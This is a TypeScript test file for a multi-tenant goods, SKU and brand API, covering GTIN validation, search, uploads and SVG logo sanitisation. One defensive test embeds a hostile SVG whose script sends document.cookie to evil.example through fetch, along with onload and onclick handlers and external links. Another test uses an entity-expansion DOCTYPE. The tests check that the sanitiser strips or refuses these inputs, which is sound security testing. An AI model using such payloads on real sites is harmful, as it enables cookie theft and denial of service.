import { withCheckDigit } from '@tagloom/domain';
import { and, count, eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { goodsSkus } from '../src/db/schema/index.js';
import { seedGoodsDemo } from '../src/modules/tenant/goods/seed.js';
import { startTestApp, type TestApp } from './support.js';
import { multipart } from './uploads.js';

/** A PNG of that size (each colour gives other bytes). */
const png = (w: number, h: number, r = 200) =>
  sharp({ create: { width: w, height: h, channels: 3, background: { r, g: 120, b: 80 } } })
    .png()
    .toBuffer();

/** The smallest MP4 the checks accept: ftyp (isom), moov, mdat. */
function mp4(): Buffer {
  const box = (type: string, body: Buffer) => {
    const head = Buffer.alloc(8);
    head.writeUInt32BE(8 + body.length, 0);
    head.write(type, 4, 'latin1');
    return Buffer.concat([head, body]);
  };
  return Buffer.concat([
    box('ftyp', Buffer.concat([Buffer.from('isom'), Buffer.alloc(4), Buffer.from('isomavc1')])),
    box('moov', box('mvhd', Buffer.alloc(100))),
    box('mdat', Buffer.alloc(64, 7)),
  ]);
}

describe('tenant goods, SKUs and brands', () => {
  let t: TestApp;
  let demo: string;
  beforeAll(async () => {
    t = await startTestApp();
    demo = await t.login('demo', 'demo123');
  });
  afterAll(() => t?.close());

  const upload = async (code: string, field: string, name: string, bytes: Buffer, lang = 'en_US') => {
    const body = multipart(name, bytes);
    const res = await t.app.inject({
      method: 'POST',
      url: `/api/${code}/upload?field=${field}`,
      headers: { ...body.headers, token: demo, langeType: lang },
      payload: body.payload,
    });
    return {
      status: res.statusCode,
      body: res.json() as {
        code: number;
        msg: string;
        data: Record<string, unknown> & { id: number; kind: string; fields: { field: string }[] };
      },
    };
  };

  const sku = (n: number, extra: Record<string, unknown> = {}) => ({
    colour: '黑色',
    size: ['S', 'M', 'L', 'XL'][n % 4],
    skuBarcode: `TG${n}`,
    gtin: withCheckDigit(`69099990${String(n).padStart(4, '0')}`),
    price: 299,
    ...extra,
  });

  it('seeds the demo tenant with two brands, 200+ styles and 2,000+ SKUs with valid GTINs', async () => {
    const db = t.ctx.db;
    const brandList = await t.call('POST', '/api/tenant/brand/list', { token: demo, body: { pageSize: 50 } });
    expect(brandList.body.data.list.map((b: { brandCode: string }) => b.brandCode)).toEqual(['LM', 'QY']);
    // each with its logo (an SVG drawn by the seed), shown by its thumbnail
    for (const b of brandList.body.data.list as { brandLogo: number }[]) {
      const thumb = await t.app.inject({ method: 'GET', url: `/api/tenant/brand/thumb?id=${b.brandLogo}`, headers: { token: demo } });
      expect(thumb.headers['content-type']).toBe('image/webp');
    }
    const demoGoods = await t.call('POST', '/api/tenant/goods/list', { token: demo, body: { pageSize: 1 } });
    expect(demoGoods.body.data.total).toBeGreaterThanOrEqual(200);
    const acme = await t.login('acme', 'acme123');
    const acmeGoods = await t.call('POST', '/api/tenant/goods/list', { token: acme, body: { pageSize: 1 } });
    expect(acmeGoods.body.data.total).toBeLessThan(5);
    const rows = await db.select({ gtin: goodsSkus.gtin, tenantId: goodsSkus.tenantId }).from(goodsSkus);
    expect(rows.length).toBeGreaterThanOrEqual(2000);
    const { isValidGtin } = await import('@tagloom/domain');
    expect(rows.every((r) => isValidGtin(r.gtin as string))).toBe(true);
  });

  it('finds goods by prefix: style number, barcode and name on the list, SKU barcode and GTIN on list-by-sku', async () => {
    const list = (body: Record<string, unknown>, token = demo) =>
      t.call('POST', '/api/tenant/goods/list', { token, body: { pageSize: 100, ...body } });
    const styles = (r: Awaited<ReturnType<typeof list>>) => r.body.data.list.map((g: { styleNumber: string }) => g.styleNumber);
    expect(styles(await list({ styleNumber: 'lm24s10' }))).toEqual(['LM24S101', 'LM24S103', 'LM24S105', 'LM24S107', 'LM24S109']);
    // from the start only: a middle part finds nothing
    expect((await list({ styleNumber: '24S101' })).body.data.total).toBe(0);
    expect(styles(await list({ barcode: 'QY25A15' }))).toEqual(['QY25A152', 'QY25A154', 'QY25A156', 'QY25A158']);
    expect((await list({ goodsName: '真丝' })).body.data.list.every((g: { goodsName: string }) => g.goodsName.startsWith('真丝'))).toBe(
      true,
    );
    const bySku = await t.call('POST', '/api/tenant/goods/list-by-sku', { token: demo, body: { sku: 'lm24s10101' } });
    expect(styles(bySku)).toEqual(['LM24S101']);
    const gtin = (await t.ctx.db.select({ gtin: goodsSkus.gtin }).from(goodsSkus).limit(1))[0].gtin as string;
    const byGtin = await t.call('POST', '/api/tenant/goods/list-by-sku', { token: demo, body: { sku: gtin } });
    expect(byGtin.body.data.total).toBe(1);
    const acme = await t.login('acme', 'acme123');
    expect((await t.call('POST', '/api/tenant/goods/list-by-sku', { token: acme, body: { sku: gtin } })).body.data.total).toBe(0);
    const viewer = await t.login('viewer', 'viewer123');
    expect((await t.call('POST', '/api/tenant/goods/list-by-sku', { token: viewer, body: { sku: 'LM' } })).body.code).toBe(200);
    expect((await t.call('POST', '/api/tenant/goods/list-by-sku', { token: demo, body: { sku: '' } })).status).toBe(400);
  });

  it('refuses a wrong GTIN check digit, naming the line and the field, and writes nothing', async () => {
    const before = (await t.call('POST', '/api/tenant/goods/list', { token: demo, body: { pageSize: 1 } })).body.data.total;
    const good = sku(1);
    const right = sku(2).gtin;
    const wrong = { ...sku(2), gtin: `${right.slice(0, 12)}${(Number(right[12]) + 1) % 10}` };
    const r = await t.call('POST', '/api/tenant/goods/create', {
      token: demo,
      lang: 'en_US',
      body: { styleNumber: 'TGX001', goodsName: '测试款', skus: [good, wrong] },
    });
    expect(r.status).toBe(400);
    expect(r.body.msg).toMatch(/Line 2/);
    expect(r.body.msg).toMatch(/GTIN/);
    expect(r.body.data.fields[0].field).toBe('skus.1.gtin');
    const shape = await t.call('POST', '/api/tenant/goods/create', {
      token: demo,
      lang: 'zh_CN',
      body: { styleNumber: 'TGX001', goodsName: '测试款', skus: [{ ...good, gtin: '12345' }] },
    });
    expect(shape.status).toBe(400);
    expect(shape.body.data.fields[0].field).toBe('skus.0.gtin');
    expect((await t.call('POST', '/api/tenant/goods/list', { token: demo, body: { pageSize: 1 } })).body.data.total).toBe(before);
  });

  it('writes goods and their SKU lines in one transaction: create, update (keep, change, add, drop), delete', async () => {
    const made = await t.call('POST', '/api/tenant/goods/create', {
      token: demo,
      body: { styleNumber: 'TGL001', goodsName: '线条测试', skus: [sku(11), sku(12)] },
    });
    expect(made.body.code).toBe(200);
    const id = made.body.data.id;
    const got = await t.call('GET', `/api/tenant/goods/get?id=${id}`, { token: demo });
    expect(got.body.data.skus.map((s: { skuBarcode: string }) => s.skuBarcode)).toEqual(['TG11', 'TG12']);
    const [first] = got.body.data.skus;
    // a clashing SKU barcode in the update: the goods row keeps its name and its lines
    const clash = await t.call('POST', '/api/tenant/goods/update', {
      token: demo,
      lang: 'en_US',
      body: { id, goodsName: '不应保存', skus: [{ ...first, colour: '白色' }, sku(13, { skuBarcode: 'LM24S10101XS' })] },
    });
    expect(clash.status).toBe(409);
    const still = await t.call('GET', `/api/tenant/goods/get?id=${id}`, { token: demo });
    expect(still.body.data.goodsName).toBe('线条测试');
    expect(still.body.data.skus).toHaveLength(2);
    const upd = await t.call('POST', '/api/tenant/goods/update', {
      token: demo,
      body: { id, goodsName: '线条测试二', skus: [{ ...first, colour: '白色' }, sku(14)] },
    });
    expect(upd.body.code).toBe(200);
    const after = await t.call('GET', `/api/tenant/goods/get?id=${id}`, { token: demo });
    expect(after.body.data.skus.map((s: { skuBarcode: string; colour: string }) => [s.skuBarcode, s.colour])).toEqual([
      ['TG11', '白色'],
      ['TG14', '黑色'],
    ]);
    expect(after.body.data.skus[0].id).toBe(first.id);
    const del = await t.call('POST', '/api/tenant/goods/delete', { token: demo, body: { ids: [id] } });
    expect(del.body.data.deleted).toBe(1);
    const [{ n }] = await t.ctx.db
      .select({ n: count() })
      .from(goodsSkus)
      .where(and(eq(goodsSkus.goodsId, id)));
    expect(n).toBe(0);
  });

  it('measures images: 800×800 refused with the spec words, 886×886 kept, a 10th refused', async () => {
    const small = await upload('tenant/goods', 'images', 'small.png', await png(800, 800));
    expect(small.status).toBe(400);
    expect(small.body.msg).toContain('Image resolution must be at least 886×886 (this one is 800×800)');
    const zh = await upload('tenant/goods', 'images', 'small.png', await png(800, 800), 'zh_CN');
    expect(zh.body.msg).toContain('图片分辨率至少为 886×886');
    const ids: number[] = [];
    for (let k = 0; k < 10; k++) {
      const up = await upload('tenant/goods', 'images', `p${k}.png`, await png(886, 886, 100 + k));
      expect(up.body.code).toBe(200);
      ids.push(up.body.data.id);
    }
    const tooMany = await t.call('POST', '/api/tenant/goods/create', {
      token: demo,
      lang: 'en_US',
      body: { styleNumber: 'TGI001', goodsName: '图片测试', images: ids },
    });
    expect(tooMany.status).toBe(400);
    expect(tooMany.body.data.fields[0].field).toBe('images');
    const nine = await t.call('POST', '/api/tenant/goods/create', {
      token: demo,
      body: { styleNumber: 'TGI001', goodsName: '图片测试', images: ids.slice(0, 9) },
    });
    expect(nine.body.code).toBe(200);
    // the upload onto the saved row refuses the 10th too
    const body = multipart('p10.png', await png(886, 886, 30));
    const tenth = await t.app.inject({
      method: 'POST',
      url: `/api/tenant/goods/upload?field=images&id=${nine.body.data.id}`,
      headers: { ...body.headers, token: demo, langeType: 'en_US' },
      payload: body.payload,
    });
    expect(tenth.statusCode).toBe(400);
    expect(tenth.json().msg).toMatch(/9/);
    // the list's thumbnail of the first picture
    const thumb = await t.app.inject({ method: 'GET', url: `/api/tenant/goods/thumb?id=${ids[0]}`, headers: { token: demo } });
    expect(thumb.statusCode).toBe(200);
    expect(thumb.headers['content-type']).toBe('image/webp');
  });

  it('tells a video by its content: a .mp4 of other bytes, or a broken one, is refused', async () => {
    const ok = await upload('tenant/goods', 'videos', 'clip.mp4', mp4());
    expect(ok.body.code).toBe(200);
    expect(ok.body.data.kind).toBe('mp4');
    const picture = await upload('tenant/goods', 'videos', 'clip.mp4', await png(900, 900));
    expect(picture.status).toBe(400);
    expect(picture.body.data.fields[0].field).toBe('videos');
    const text = await upload('tenant/goods', 'videos', 'clip.mp4', Buffer.from('not a video at all, just text'));
    expect(text.status).toBe(400);
    // starts like an MP4, then is not one (boxes do not fill the file, no moov)
    const fake = Buffer.concat([mp4().subarray(0, 24), Buffer.from('garbage that is not a box chain')]);
    const broken = await upload('tenant/goods', 'videos', 'clip.mp4', fake);
    expect(broken.status).toBe(400);
    expect(broken.body.msg).toMatch(/damaged or not of the chosen format/);
    // a HEIF picture is an ISO container too, of another brand
    const heic = Buffer.from(mp4());
    heic.write('heic', 8, 'latin1');
    expect((await upload('tenant/goods', 'videos', 'clip.mp4', heic)).status).toBe(400);
    const webm = Buffer.from([
      0x1a, 0x45, 0xdf, 0xa3, 0x93, 0x42, 0x86, 0x81, 0x01, 0x42, 0xf7, 0x81, 0x01, 0x42, 0x82, 0x84, 0x77, 0x65, 0x62, 0x6d, 0x42, 0x87,
      0x81, 0x02, 0x18, 0x53, 0x80, 0x67, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00,
    ]);
    const w = await upload('tenant/goods', 'videos', 'clip.webm', webm);
    expect(w.body.code).toBe(200);
    const mkv = Buffer.from(webm);
    mkv.write('mkvx', 16, 'latin1');
    expect((await upload('tenant/goods', 'videos', 'clip.webm', mkv)).status).toBe(400);
  });

  it('stores a brand logo SVG sanitised, refuses a hostile DOCTYPE, and draws its thumbnail', async () => {
    const hostile = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 120 40" onload="alert(1)">
  <script><![CDATA[ fetch('https://evil.example/?c=' + document.cookie) ]]></script>
  <use href="//evil.example/s.svg#x"/><image xlink:href="http://evil.example/p.png" width="1" height="1"/>
  <rect width="120" height="40" fill="#1a3c6e" style="fill:url(https://evil.example/x)" onclick="x()"/>
  <text x="10" y="28" fill="#fff" font-size="20">LANMAN</text>
</svg>`;
    const up = await upload('tenant/brand', 'brandLogo', 'logo.svg', Buffer.from(hostile));
    expect(up.body.code).toBe(200);
    expect(up.body.data.kind).toBe('svg');
    const made = await t.call('POST', '/api/tenant/brand/create', {
      token: demo,
      body: { brandCode: 'SVG1', brandName: '矢量品牌', brandLogo: up.body.data.id },
    });
    expect(made.body.code).toBe(200);
    const file = await t.app.inject({ method: 'GET', url: `/api/tenant/brand/file?id=${up.body.data.id}`, headers: { token: demo } });
    const stored = file.body.replace(/ xmlns(:xlink)?="[^"]+"/g, '');
    expect(stored).toContain('LANMAN');
    expect(stored).toContain('<rect');
    expect(stored).not.toMatch(/script|onload|onclick|evil|http|cookie/i);
    expect(Number(file.headers['content-length'])).toBe(Buffer.byteLength(file.body));
    const thumb = await t.app.inject({ method: 'GET', url: `/api/tenant/brand/thumb?id=${up.body.data.id}`, headers: { token: demo } });
    expect(thumb.statusCode).toBe(200);
    expect(thumb.headers['content-type']).toBe('image/webp');

    const laughs = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>`;
    const refused = await upload('tenant/brand', 'brandLogo', 'laughs.svg', Buffer.from(laughs));
    expect(refused.status).toBe(400);
    expect(refused.body.msg).toMatch(/Logo/);
    expect(refused.body.msg).toMatch(/DOCTYPE/);
    const broken = await upload(
      'tenant/brand',
      'brandLogo',
      'broken.svg',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><rect></svg>'),
      'zh_CN',
    );
    expect(broken.status).toBe(400);
    expect(broken.body.msg).toMatch(/品牌标志/);
  });

  it('draws the brands their logos when the goods seed runs for another tenant too', async () => {
    const acme = await t.login('acme', 'acme123');
    const { tenants } = await import('../src/db/schema/index.js');
    const [row] = await t.ctx.db.select({ id: tenants.id }).from(tenants).where(eq(tenants.code, 'ACME'));
    await t.ctx.db.transaction((tx) => seedGoodsDemo(tx, { id: row.id }, { dataDir: t.ctx.config.dataDir }));
    const list = await t.call('POST', '/api/tenant/brand/list', { token: acme, body: { pageSize: 10 } });
    const logos = list.body.data.list.map((b: { brandLogo: number | null }) => b.brandLogo);
    expect(logos.every((id: number | null) => typeof id === 'number')).toBe(true);
    const thumb = await t.app.inject({ method: 'GET', url: `/api/tenant/brand/thumb?id=${logos[0]}`, headers: { token: acme } });
    expect(thumb.statusCode).toBe(200);
    expect(thumb.headers['content-type']).toBe('image/webp');
  });
});
